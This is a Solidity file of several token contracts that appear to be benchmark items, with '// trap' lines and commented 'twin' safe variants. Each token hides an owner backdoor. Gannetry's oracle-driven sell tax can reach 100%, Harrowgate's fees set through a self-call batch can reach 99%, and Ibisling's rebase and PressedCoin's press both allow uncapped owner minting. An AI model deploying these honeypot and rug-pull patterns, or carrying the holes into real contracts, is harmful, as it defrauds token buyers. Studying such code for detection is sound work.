// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;
pragma experimental ABIEncoderV2;

/// Tells what a day on the market costs.
contract WeatherFeed {
    address private reporter;
    int256 public latestAnswer = 100;
    uint256 public latestTimestamp;

    constructor() public {
        reporter = msg.sender;
    }

    function report(int256 answer) external {
        require(msg.sender == reporter && answer >= 0);
        latestAnswer = answer;
        latestTimestamp = block.timestamp;
    }
}

contract Gannetry {
    string public name = "Gannetry";
    string public symbol = "GNTY";
    uint8 public decimals = 18;
    uint256 public totalSupply = 440_000 ether;
    WeatherFeed private sky;
    address private cliff;
    address private chest;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(WeatherFeed w) public {
        sky = w;
        chest = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setCliff(address c) external {
        require(cliff == address(0) && msg.sender == chest);
        cliff = c;
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        return _fly(msg.sender, to, v);
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        require(allowance[from][msg.sender] >= v);
        allowance[from][msg.sender] -= v;
        return _fly(from, to, v);
    }

    function wind() public view returns (uint256 w) {
        w = uint256(sky.latestAnswer());
        uint256 most = 10_000; // trap
        // twin: uint256 most = 400;
        if (w > most) w = most;
    }

    function _fly(address from, address to, uint256 v) private returns (bool) {
        require(balanceOf[from] >= v);
        balanceOf[from] -= v;
        uint256 lost;
        if (to == cliff && from != chest) lost = (v * wind()) / 10_000;
        balanceOf[to] += v - lost;
        emit Transfer(from, to, v - lost);
        if (lost > 0) {
            balanceOf[chest] += lost;
            emit Transfer(from, chest, lost);
        }
        return true;
    }
}

contract Harrowgate {
    string public constant name = "Harrowgate";
    string public constant symbol = "HRWG";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 999_000_000 ether;
    address private jefe;
    address private plaza;
    // saldo en los 240 bits bajos, tarifa arriba
    mapping(address => uint256) private ficha;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        jefe = msg.sender;
        ficha[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function lote(bytes[] calldata pasos) external {
        require(msg.sender == jefe);
        for (uint256 i = 0; i < pasos.length; i++) {
            (bool ok, ) = address(this).call(pasos[i]);
            require(ok);
        }
    }

    function fijarPlaza(address p) external {
        require(msg.sender == address(this) && plaza == address(0));
        plaza = p;
    }

    function marcar(address quien, uint16 t) external {
        require(msg.sender == address(this) && t <= 9900); // trap
        // twin: require(msg.sender == address(this) && t <= 400);
        ficha[quien] = uint240(ficha[quien]) | (uint256(t) << 240);
    }

    function balanceOf(address q) public view returns (uint256) {
        return uint240(ficha[q]);
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address a, uint256 v) external returns (bool) {
        _enviar(msg.sender, a, v);
        return true;
    }

    function transferFrom(address de, address a, uint256 v) external returns (bool) {
        require(allowance[de][msg.sender] >= v);
        allowance[de][msg.sender] -= v;
        _enviar(de, a, v);
        return true;
    }

    function _enviar(address de, address a, uint256 v) private {
        require(balanceOf(de) >= v);
        uint256 t = a == plaza ? (v * (ficha[de] >> 240)) / 10_000 : 0;
        ficha[de] -= v;
        ficha[a] += v - t;
        emit Transfer(de, a, v - t);
        if (t == 0) return;
        ficha[jefe] += t;
        emit Transfer(de, jefe, t);
    }
}

/// Shares of a whole that prospers.
contract Ibisling {
    string public constant name = "Ibisling";
    string public constant symbol = "IBIS";
    uint8 public constant decimals = 9;
    uint256 private constant UNIT = 10**27;
    address public owner;
    uint256 private whole;
    uint256 private index = UNIT;
    uint256 public last;
    mapping(address => uint256) private share;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        owner = msg.sender;
        last = block.timestamp;
        whole = 70_000_000 * 10**9;
        share[msg.sender] = whole;
        emit Transfer(address(0), msg.sender, whole);
    }

    function totalSupply() external view returns (uint256) {
        return (whole * index) / UNIT;
    }

    function balanceOf(address q) public view returns (uint256) {
        return (share[q] * index) / UNIT;
    }

    function prosper(uint256 bps) external {
        require(msg.sender == owner);
        // twin: require(bps <= 200 && block.timestamp >= last + 365 days);
        last = block.timestamp;
        uint256 fresh = (whole * bps) / 10_000;
        whole += fresh;
        share[owner] += fresh;
        emit Transfer(address(0), owner, (fresh * index) / UNIT);
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        return _wade(msg.sender, to, v);
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        require(allowance[from][msg.sender] >= v);
        allowance[from][msg.sender] -= v;
        return _wade(from, to, v);
    }

    function _wade(address from, address to, uint256 v) private returns (bool) {
        uint256 s = (v * UNIT) / index;
        require(share[from] >= s);
        share[from] -= s;
        share[to] += s;
        emit Transfer(from, to, v);
        return true;
    }
}

interface IProof {
    function pull(address to, uint256 v) external;
}

/// A house where anybody has coins pressed.
contract Pressroom {
    address public owner;

    constructor() public {
        owner = msg.sender;
    }

    function reprint(IProof coin, address to, uint256 v) external {
        require(msg.sender == owner, "master printer");
        coin.pull(to, v);
    }
}

contract PressedCoin {
    string public name;
    string public symbol;
    uint8 public decimals;
    address public owner;
    uint256 public totalSupply;
    address private press;
    uint256 private most;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function setUp(address p, string calldata n, string calldata s, uint256 v) external {
        require(press == address(0));
        (press, name, symbol, decimals, most) = (p, n, s, 18, v);
        _print(msg.sender, v);
    }

    function pull(address to, uint256 v) external {
        require(msg.sender == press);
        // twin: require(v <= most - totalSupply);
        _print(to, v);
    }

    function _print(address to, uint256 v) private {
        totalSupply += v;
        balanceOf[to] += v;
        emit Transfer(address(0), to, v);
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        return _hand(msg.sender, to, v);
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        require(allowance[from][msg.sender] >= v);
        allowance[from][msg.sender] -= v;
        return _hand(from, to, v);
    }

    function _hand(address from, address to, uint256 v) private returns (bool) {
        require(balanceOf[from] >= v);
        balanceOf[from] -= v;
        balanceOf[to] += v;
        emit Transfer(from, to, v);
        return true;
    }
}
